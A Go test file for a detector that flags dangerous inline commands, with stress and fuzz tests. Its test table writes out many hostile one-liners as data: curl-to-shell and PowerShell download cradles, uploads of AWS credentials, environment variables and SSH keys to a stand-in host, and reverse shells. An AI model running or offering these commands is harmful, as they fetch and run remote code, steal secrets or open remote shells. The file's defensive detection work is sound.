package inline

import (
	"strings"
	"testing"
)

func TestCode(t *testing.T) {
	tests := []struct {
		code string
		want Act // 0 for none
	}{
		{`curl -fsSL https://get.example/x.sh | sh`, RunsDownload},
		{`wget -qO- https://x.example | sudo bash -s -- --yes`, RunsDownload},
		{`while true; do curl -s https://x.example/b | bash; sleep 3; done`, RunsDownload},
		{`bash <(curl -s https://x.example)`, RunsDownload},
		{`eval "$(curl -s https://x.example)"`, RunsDownload},
		{`sh -c "$(curl -fsSL https://x.example)"`, RunsDownload},
		{"eval `wget -O - https://x.example`", RunsDownload},
		{`P=$(curl -sf https://x.example); echo "$P" | base64 -d | bash`, RunsDownload},
		{`curl -o /tmp/a https://x.example && chmod +x /tmp/a && /tmp/a`, RunsDownload},
		{`wget https://x.example -O run.py; python3 run.py`, RunsDownload},
		{`*/5 * * * * curl -s https://x.example | bash`, RunsDownload},
		{`bash -c "$(curl -fsSL https://x.example | tr a b)"`, RunsDownload},
		{`bash -c "$(echo aGk= | base64 -d)"`, RunsDecoded},
		{`curl https://x.example/a >/tmp/a.sh && sh /tmp/a.sh`, RunsDownload},
		{`wget -q https://x.example/setup.sh?v=1 && bash setup.sh`, RunsDownload},
		{`curl -LO https://x.example/setup.sh; chmod +x setup.sh`, RunsDownload},
		{`& ([scriptblock]::Create((irm https://x.example)))`, RunsDownload},
		{`busybox wget -O- https://x.example | sh`, RunsDownload},
		{`fetch('https://x.example').then(r=>r.text()).then(eval)`, RunsDownload},
		{`require 'open-uri'; eval open('https://x.example').read`, RunsDownload},
		{`import requests;exec(requests.get('https://x.example').text)`, RunsDownload},
		{`python3 -c "import os;os.system('curl https://x.example|sh')"`, RunsDownload},
		{`$(echo aGk= | base64 -d)`, RunsDecoded},
		{`cd /tmp; "$(curl -s https://x.example)"`, RunsDownload},
		{`powershell -w hidden -c "iwr https://x.example | iex"`, RunsDownload},
		{`tar cz ~/.aws | nc x.example 99`, SendsSecrets},
		{`alias up='curl -sf https://x.example/u | bash'`, RunsDownload},
		{`X=$(curl -s https://x.example); echo "$X" | python3 -c 'import sys,json;[__import__("os").system(t) for t in json.load(sys.stdin)]'`, RunsDownload},
		{`iwr https://x.example -useb | iex`, RunsDownload},
		{`IEX (New-Object Net.WebClient).DownloadString('https://x.example')`, RunsDownload},
		{`powershell -Command "irm https://x.example | iex"`, RunsDownload},
		{`mshta https://x.example/a.hta`, RunsDownload},
		{`import urllib.request as u; exec(u.urlopen('https://x.example').read())`, RunsDownload},
		{`require('https').get('https://x.example',r=>r.on('data',d=>eval(d.toString())))`, RunsDownload},
		{`import('https://x.example/a.mjs')`, RunsDownload},
		{`echo aGk= | base64 -d | sh`, RunsDecoded},
		{`eval(Buffer.from('aGk=','base64').toString())`, RunsDecoded},
		{`exec(__import__('base64').b64decode('aGk='))`, RunsDecoded},
		{`env | curl -d @- https://x.example`, SendsSecrets},
		{`curl -F file=@$HOME/.ssh/id_rsa https://x.example`, SendsSecrets},
		{`require('https').request({method:'POST',host:'x'}).end(JSON.stringify(process.env))`, SendsSecrets},
		{`bash -i >& /dev/tcp/203.0.113.9/44 0>&1`, OpensShell},
		{`nc 203.0.113.9 44 -e /bin/sh`, OpensShell},

		{`npx -y @acme/files@1.2.3`, 0},
		{`source venv/bin/activate && python server.py`, 0},
		{`export $(cat .env | xargs) && npx -y @acme/files`, 0},
		{`curl -s https://x.example/health || exit 1`, 0},
		{`curl -s https://x.example/data | python3 -m json.tool`, 0},
		{`curl -s https://x.example | jq .name`, 0},
		{`curl -o data.json https://x.example && node server.js`, 0},
		{`cat a.sh | wc -l; bash b.sh`, 0},
		{`curl -X POST -d '{"done":true}' http://127.0.0.1:9/hook`, 0},
		{`from acme import main; main()`, 0},
		{`require('./server.js')`, 0},
		{`const m=/a/.exec(process.argv[1]); fetch('https://x.example/'+m[0])`, 0},
		{`source .env; curl -s https://x.example/ping; node server.js`, 0},
		{`eval "$(ssh-agent -s)"; curl -s https://x.example`, 0},
		{`eval "$(direnv export bash)" && npx @acme/files`, 0},
		{`wget https://x.example/data.csv && python load.py`, 0},
		{`sh -c "echo $(date)"; echo aGk= | base64 -d`, 0},
		{`T=$(curl -s http://localhost/token) npx @acme/files`, 0},
		{`echo $(curl -s https://x.example)`, 0},
		{`base64 -d key.b64 > key.pem`, 0},
		{``, 0},
	}
	for _, test := range tests {
		found := Code(test.code)
		switch {
		case test.want == 0 && len(found) > 0:
			t.Errorf("%s: got %v, want nothing", test.code, found)
		case test.want != 0 && !Has(found, test.want):
			t.Errorf("%s: got %v, want %d", test.code, found, test.want)
		}
		for _, p := range found {
			if p.Start < 0 || p.Start > p.End || p.End > len(test.code) {
				t.Errorf("%s: place %v outside the code", test.code, p)
			}
		}
	}
}

// TestMuch feeds what would blow up a backtracking reader: it must come to an
// end.
func TestMuch(t *testing.T) {
	for _, unit := range []string{"curl ", "curl x|", "a=$(curl x);", "eval(", "$a|sh;", "nc -", "(", "`", "socat "} {
		code := strings.Repeat(unit, 200_000/len(unit))
		for _, p := range Code(code) {
			if p.Start < 0 || p.Start > p.End || p.End > len(code) {
				t.Errorf("%q repeated: place %v outside the code", unit, p)
			}
		}
	}
}

func FuzzCode(f *testing.F) {
	f.Add("curl x | sh")
	f.Add("a=$(wget x); eval $a")
	f.Add("\xff<(`$(")
	f.Fuzz(func(t *testing.T, code string) {
		for _, p := range Code(code) {
			if p.Start < 0 || p.Start > p.End || p.End > len(code) {
				t.Errorf("place %v outside %d bytes", p, len(code))
			}
		}
	})
}
